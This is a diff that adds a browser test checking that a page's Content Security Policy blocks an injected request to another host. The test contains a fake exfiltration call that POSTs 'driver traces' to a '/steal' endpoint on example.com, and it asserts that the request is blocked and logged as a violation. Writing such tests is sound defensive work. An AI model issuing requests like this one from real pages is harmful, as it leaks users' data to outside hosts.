@@ -92,4 +92,18 @@ describe('no user string becomes HTML', () => {
     expect(session.consoleErrors).toEqual([]);
     expect(session.foreignRequests).toEqual([]);
   });
+
+  it('the CSP blocks an injected request to another host: it never leaves the page', async () => {
+    const { page } = session;
+    const outcome = await page.evaluate(() =>
+      fetch('https://example.com/steal?pings=1', { method: 'POST', body: 'driver traces' }).then(
+        () => 'sent',
+        (error: unknown) => `blocked: ${String(error)}`,
+      ),
+    );
+    expect(outcome).toMatch(/^blocked/);
+    const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
+    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com'))).toBe(true);
+    expect(session.foreignRequests).toEqual([]);
+  });
 });
